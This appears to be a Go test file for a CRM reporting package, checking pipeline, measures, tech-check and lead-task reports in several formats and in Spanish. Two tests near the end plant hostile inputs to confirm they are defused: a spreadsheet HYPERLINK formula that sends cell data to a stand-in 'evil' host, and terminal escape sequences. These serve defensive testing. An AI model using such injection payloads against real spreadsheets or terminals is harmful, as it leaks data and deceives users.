package report

import (
	"bytes"
	"context"
	"database/sql"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/contoso/c360/pipeline/i18n"
	"github.com/contoso/c360/pipeline/sales"
)

// The expected texts below restate testdata/crm/expected by hand in each format.

const pipelineTable = `Pipeline by stage (open deals), as of 2026-11-27

#  Stage       Open deals  Open value  Weighted value  Avg days in stage  Over $20,000
-  ----------  ----------  ----------  --------------  -----------------  ------------
1  Qualify              1     5000.05          500.01                 10             0
2  Develop              2    40000.01        11000.00                 25             1
3  Quote                0        0.00            0.00                                0
4  Tech Check           2   110000.00        77000.00               20.5             2
5  Close                2    85000.00        76500.00                 15             2

Won and lost deals, as of 2026-11-27

Won  Won value  Lost  Lost value  Win rate
---  ---------  ----  ----------  --------
  5  209500.00     2    90000.00    0.7143
`

const pipelineCSV = `stage_order,stage,open_deals,open_value,weighted_value,avg_days_in_stage,deals_over_20000
1,Qualify,1,5000.05,500.01,10,0
2,Develop,2,40000.01,11000.00,25,1
3,Quote,0,0.00,0.00,,0
4,Tech Check,2,110000.00,77000.00,20.5,2
5,Close,2,85000.00,76500.00,15,2

won_deals,won_value,lost_deals,lost_value,win_rate
5,209500.00,2,90000.00,0.7143
`

const pipelineJSON = `{
  "pipeline_by_stage": [
    {"stage_order": 1, "stage": "Qualify", "open_deals": 1, "open_value": 5000.05, "weighted_value": 500.01, "avg_days_in_stage": 10, "deals_over_20000": 0},
    {"stage_order": 2, "stage": "Develop", "open_deals": 2, "open_value": 40000.01, "weighted_value": 11000.00, "avg_days_in_stage": 25, "deals_over_20000": 1},
    {"stage_order": 3, "stage": "Quote", "open_deals": 0, "open_value": 0.00, "weighted_value": 0.00, "avg_days_in_stage": null, "deals_over_20000": 0},
    {"stage_order": 4, "stage": "Tech Check", "open_deals": 2, "open_value": 110000.00, "weighted_value": 77000.00, "avg_days_in_stage": 20.5, "deals_over_20000": 2},
    {"stage_order": 5, "stage": "Close", "open_deals": 2, "open_value": 85000.00, "weighted_value": 76500.00, "avg_days_in_stage": 15, "deals_over_20000": 2}
  ],
  "deal_outcome": [
    {"won_deals": 5, "won_value": 209500.00, "lost_deals": 2, "lost_value": 90000.00, "win_rate": 0.7143}
  ]
}
`

const measuresTable = `Business measures

Avg store purchase  Avg web purchase  Store purchases  Online purchases  Unlinked purchases
------------------  ----------------  ---------------  ----------------  ------------------
             30.00            110.00                5                 6                   3

Customer measures

Customer  Lifetime spend  Avg web purchase  Club points  First purchase
--------  --------------  ----------------  -----------  --------------
C1                380.02            116.67           30  2026-01-05
C2                 99.99                              0  2026-03-01
C4                  0.00                              0
`

const measuresCSV = `avg_store_purchase,avg_web_purchase,store_purchases,online_purchases,unlinked_purchases
30.00,110.00,5,6,3

customer_id,lifetime_spend,avg_web_purchase,club_points,first_purchase_on
C1,380.02,116.67,30,2026-01-05
C2,99.99,,0,2026-03-01
C4,0.00,,0,
`

const measuresJSON = `{
  "business_measure": [
    {"avg_store_purchase": 30.00, "avg_web_purchase": 110.00, "store_purchases": 5, "online_purchases": 6, "unlinked_purchases": 3}
  ],
  "customer_measure": [
    {"customer_id": "C1", "lifetime_spend": 380.02, "avg_web_purchase": 116.67, "club_points": 30, "first_purchase_on": "2026-01-05"},
    {"customer_id": "C2", "lifetime_spend": 99.99, "avg_web_purchase": null, "club_points": 0, "first_purchase_on": "2026-03-01"},
    {"customer_id": "C4", "lifetime_spend": 0.00, "avg_web_purchase": null, "club_points": 0, "first_purchase_on": null}
  ]
}
`

func TestPrintWholeReports(t *testing.T) {
	db := fixtureDB(t)
	tests := []struct{ name, format, want string }{
		{"pipeline", "table", pipelineTable},
		{"pipeline", "csv", pipelineCSV},
		{"pipeline", "json", pipelineJSON},
		{"measures", "table", measuresTable},
		{"measures", "csv", measuresCSV},
		{"measures", "json", measuresJSON},
	}
	for _, tc := range tests {
		t.Run(tc.name+"/"+tc.format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Print(context.Background(), db, tc.name, tc.format, nil, &b); err != nil {
				t.Fatal(err)
			}
			if got := b.String(); got != tc.want {
				t.Errorf("got\n%s\nwant\n%s", got, tc.want)
			}
		})
	}
}

// TestPrintExcerpts checks lines of the wider reports: their order, the
// table format's chosen columns and words, and CSV quoting.
func TestPrintExcerpts(t *testing.T) {
	db := fixtureDB(t)
	tests := []struct {
		name, format string
		lines        []string // must appear, in this order
	}{
		{"tech-checks", "table", []string{
			"Tech Check compliance, as of 2026-11-27",
			"Deal id  Deal                                        Stage       State  Est. value  Checks  Status        Reviewed on       Result                  Violation",
			"D08      Outdoor cameras for Adatum Retail           Close       Open     25000.00       0  missing                                                 yes",
			"D15      Video doorbells for Northwind Clinics       Close       Lost     50000.00       1  failed        2026-07-20 10:00  Failed                  yes",
			"D07      Smart locks for Fabrikam Hotels             Close       Open     60000.00       1  passed        2026-11-24 10:30  Passed with conditions  no",
			"D12      Thermostats for Fabrikam Hotels             Close       Won      15000.00       1  not required  2026-08-15 11:00  Passed                  no",
		}},
		{"tech-checks", "csv", []string{
			"deal_id,deal_name,owner_id,stage,state,estimated_value,required,checks,status,tech_check_id,reviewed_by,reviewed_on,result,details,violation",
			"D13,Alarm monitoring for Northwind Clinics,U-BEN,Close,Won,22000.00,true,1,failed,TC-6,U-SAM,2026-10-02T15:00:00Z,Failed,Quote omits the monitoring hub.,true",
			`D07,Smart locks for Fabrikam Hotels,U-ANA,Close,Open,60000.00,true,1,passed,TC-2,U-RIA,2026-11-24T10:30:00Z,Passed with conditions,"Approved if the customer upgrades the network switch, before install.",false`,
		}},
		{"lead-tasks", "table", []string{
			"Lead sequence tasks by owner, as of 2026-11-27",
			"U-ANA      3     12             3          0         1        2          1         3        2",
			"Lead sequence tasks, as of 2026-11-27",
			"Lead          Company            Owner  Step  Task                             Due         Completed   Status",
			"James Smith   Fabrikam Hotels    U-BEN     2  Information e-mail               2026-11-11  2026-11-14  done late",
			"Omar Haddad   Fabrikam Hotels    U-BEN     3  Check-in e-mail                  2026-11-27              due today",
			"ACT-8-1   LEAD-8                          U-BEN     1  phone call  Completed       no account",
		}},
		{"lead-tasks", "csv", []string{
			"owner_id,leads,tasks,done_on_time,done_late,canceled,overdue,due_today,upcoming,stopped",
			"U-CAL,2,8,1,1,1,1,0,2,2",
			"",
			"lead_id,lead_name,company_name,account_id,owner_id,lead_state,step,task,activity_type,due_on,activity_id,activity_state,completed_on,canceled_on,status",
			"LEAD-3,Li Wei,Northwind Clinics,ACC-2,U-ANA,Open,2,Information e-mail,email,2026-11-17,ACT-3-2,Canceled,,2026-11-18,canceled",
			"",
			"activity_id,lead_id,account_id,customer_type,owner_id,step,activity_type,activity_state,reason",
			"ACT-7-2,LEAD-7,ACC-3,Partner,U-ANA,2,email,Open,not_corporate",
		}},
		{"lead-tasks", "json", []string{
			`  "lead_task_summary": [`,
			`  "lead_sequence_task": [`,
			`    {"lead_id": "LEAD-4", "lead_name": "Ana Silva", "company_name": "Northwind Clinics", "account_id": "ACC-2", "owner_id": "U-CAL", "lead_state": "Disqualified", "step": 1, "task": "Introduction phone call", "activity_type": "phonecall", "due_on": "2026-11-02", "activity_id": "ACT-4-1", "activity_state": "Completed", "completed_on": "2026-11-03", "canceled_on": null, "status": "done_late"},`,
			`  "sequence_violation": [`,
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name+"/"+tc.format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Print(context.Background(), db, tc.name, tc.format, nil, &b); err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(b.String(), "\n")
			at := 0
			for _, want := range tc.lines {
				for at < len(lines) && lines[at] != want {
					at++
				}
				if at == len(lines) {
					t.Fatalf("line not found (in order):\n%s\nin\n%s", want, b.String())
				}
			}
		})
	}
}

func TestPrintErrors(t *testing.T) {
	db := fixtureDB(t)
	empty, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer empty.Close()
	tests := []struct {
		db           *sql.DB
		name, format string
		want         error
	}{
		{db, "opportunities", "table", ErrUnknownReport},
		{db, "pipeline", "xml", ErrUnknownFormat},
		{db, "pipeline", "", ErrUnknownFormat},
		{empty, "pipeline", "table", ErrNotBuilt},
		{empty, "measures", "csv", ErrNotBuilt},
	}
	for _, tc := range tests {
		var b bytes.Buffer
		err := Print(context.Background(), tc.db, tc.name, tc.format, nil, &b)
		if !errors.Is(err, tc.want) {
			t.Errorf("Print(%q, %q) = %v, want %v", tc.name, tc.format, err, tc.want)
		}
		if b.Len() > 0 {
			t.Errorf("Print(%q, %q) wrote %q before failing", tc.name, tc.format, b.String())
		}
	}
}

// TestCatalogComplete checks that the table format has a title for every
// section and a heading for every column of the tables as the SQL builds
// them, so that no raw column name reaches a reader.
func TestCatalogComplete(t *testing.T) {
	ctx := context.Background()
	db := fixtureDB(t)
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Rebuild the measure tables from empty inputs, to get their real columns.
	for _, s := range []string{
		`CREATE TABLE source_pos (source_line BIGINT, loyalty_id VARCHAR, purchase_id VARCHAR, product_id VARCHAR,
			purchased_on DATE, total_price DECIMAL(18,2), reward_points_added BIGINT)`,
		`CREATE TABLE source_online (source_line BIGINT, contact_id VARCHAR, purchase_id VARCHAR, product_id VARCHAR,
			purchased_on DATE, total_price DECIMAL(18,2))`,
		`CREATE TABLE customer (customer_id VARCHAR)`,
		`CREATE TABLE customer_source (customer_id VARCHAR, source VARCHAR, source_id VARCHAR)`,
	} {
		if _, err := conn.ExecContext(ctx, s); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := sales.Purchases(ctx, conn); err != nil {
		t.Fatal(err)
	}
	if err := sales.Measures(ctx, conn); err != nil {
		t.Fatal(err)
	}
	for _, lang := range i18n.Languages() {
		cat, err := i18n.ForLang(lang)
		if err != nil {
			t.Fatal(err)
		}
		// Stage and step names come from the process the database holds.
		if cat, err = sales.Catalog(ctx, conn, cat); err != nil {
			t.Fatal(err)
		}
		for name, rep := range reports() {
			for _, s := range rep.sections {
				if !cat.Has("report.title." + s.table) {
					t.Errorf("%s %s: no title for section %s", lang, name, s.table)
				}
				checkSection(ctx, t, conn, cat, s)
			}
		}
	}
}

// checkSection checks that cat has a heading for every column of s and a
// word for every stored value of its translated columns in the fixture.
func checkSection(ctx context.Context, t *testing.T, conn *sql.Conn, cat *i18n.Catalog, s section) {
	t.Helper()
	rows, err := conn.QueryContext(ctx, s.query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	cols, err := rows.Columns()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cols {
		if !cat.Has("col." + c) {
			t.Errorf("%s: no heading for column %s.%s", cat.Lang(), s.table, c)
		}
	}
	for _, c := range s.brief {
		if !strings.Contains(","+strings.Join(cols, ",")+",", ","+c+",") {
			t.Errorf("brief column %s is not in %s", c, s.table)
		}
	}
	for rows.Next() {
		vals := make([]any, len(cols))
		ptrs := make([]any, len(cols))
		for i := range vals {
			ptrs[i] = &vals[i]
		}
		if err := rows.Scan(ptrs...); err != nil {
			t.Fatal(err)
		}
		for i, c := range cols {
			text, ok := vals[i].(string)
			// customer_type is an open choice: an organisation's own labels
			// (Residential) show as stored.
			if kind := valueKind(c); ok && kind != "" && !cat.Has(kind+"."+text) &&
				!(kind == "customer_type" && text == "Residential") {
				t.Errorf("%s: no word for %s %q (%s.%s)", cat.Lang(), kind, text, s.table, c)
			}
		}
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
}

// TestPrintSpanish checks the table format in Spanish: titles, headings,
// stage names, step names, statuses and booleans, while csv keeps the
// stored English values for scripts.
func TestPrintSpanish(t *testing.T) {
	db := fixtureDB(t)
	es, err := i18n.ForLang("es")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, format string
		lines        []string // must appear, in this order
	}{
		{"pipeline", "table", []string{
			"Canalización por fase (ofertas abiertas), a fecha de 2026-11-27",
			"#  Fase                  Ofertas abiertas  Valor abierto  Valor ponderado  Días medios en la fase  Más de $20,000",
			"1  Calificar                            1        5000.05           500.01                      10               0",
			"2  Desarrollar                          2       40000.01         11000.00                      25               1",
			"3  Presupuesto                          0           0.00             0.00                                       0",
			"4  Comprobación técnica                 2      110000.00         77000.00                    20.5               2",
			"5  Cierre                               2       85000.00         76500.00                      15               2",
			"Ofertas ganadas y perdidas, a fecha de 2026-11-27",
		}},
		{"tech-checks", "table", []string{
			"Cumplimiento de la comprobación técnica, a fecha de 2026-11-27",
			"Id. de oferta  Oferta                                      Fase                  Estado   Valor estimado  Comprobaciones  Situación     Revisada el       Resultado                 Infracción",
			"D08            Outdoor cameras for Adatum Retail           Cierre                Abierta        25000.00               0  falta                                                     sí",
			"D15            Video doorbells for Northwind Clinics       Cierre                Perdida        50000.00               1  no superada   2026-07-20 10:00  No superada               sí",
			"D07            Smart locks for Fabrikam Hotels             Cierre                Abierta        60000.00               1  superada      2026-11-24 10:30  Superada con condiciones  no",
		}},
		{"lead-tasks", "table", []string{
			"Tareas de la secuencia de clientes potenciales por propietario, a fecha de 2026-11-27",
			"Tareas de la secuencia de clientes potenciales, a fecha de 2026-11-27",
			"Cliente potencial  Empresa            Propietario  Paso  Tarea                            Vence       Completada  Situación",
			"James Smith        Fabrikam Hotels    U-BEN           2  Correo informativo               2026-11-11  2026-11-14  hecha con retraso",
			"Omar Haddad        Fabrikam Hotels    U-BEN           3  Correo de seguimiento            2026-11-27              vence hoy",
			"ACT-7-2    LEAD-7                    ACC-3   Socio           U-ANA           2  correo electrónico  Abierta                 cuenta no corporativa",
		}},
		{"pipeline", "csv", []string{"1,Qualify,1,5000.05,500.01,10,0"}},
	}
	for _, tc := range tests {
		t.Run(tc.name+"/"+tc.format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Print(context.Background(), db, tc.name, tc.format, es, &b); err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(b.String(), "\n")
			at := 0
			for _, want := range tc.lines {
				for at < len(lines) && lines[at] != want {
					at++
				}
				if at == len(lines) {
					t.Fatalf("line not found (in order):\n%s\nin\n%s", want, b.String())
				}
			}
		})
	}
}

// A cell a spreadsheet would evaluate is written as text (issue 10, case 5).
func TestPrintCSVNeutralisesFormulas(t *testing.T) {
	db := fixtureDB(t)
	for _, table := range []string{"deal", "tech_check_compliance"} {
		col := "name"
		if table == "tech_check_compliance" {
			col = "deal_name"
		}
		q := fmt.Sprintf(`UPDATE %s SET %s = '=HYPERLINK("http://evil/?"&A1,"x")' WHERE deal_id = 'D13'`, table, col)
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	var b bytes.Buffer
	if err := Print(context.Background(), db, "tech-checks", "csv", nil, &b); err != nil {
		t.Fatal(err)
	}
	want := `D13,"'=HYPERLINK(""http://evil/?""&A1,""x"")",U-BEN,`
	if !strings.Contains(b.String(), want) {
		t.Errorf("report lacks %s:\n%s", want, b.String())
	}
}

// A table printed for a terminal cannot carry a source's control characters.
func TestPrintTableEscapesControlCharacters(t *testing.T) {
	db := fixtureDB(t)
	if _, err := db.Exec("UPDATE tech_check_compliance SET deal_name = 'Evil\x1b[2J\nname' WHERE deal_id = 'D13'"); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Print(context.Background(), db, "tech-checks", "table", nil, &b); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsRune(b.String(), 0x1b) || !strings.Contains(b.String(), `Evil\x1b[2J\nname`) {
		t.Errorf("the deal name is not escaped:\n%s", b.String())
	}
}
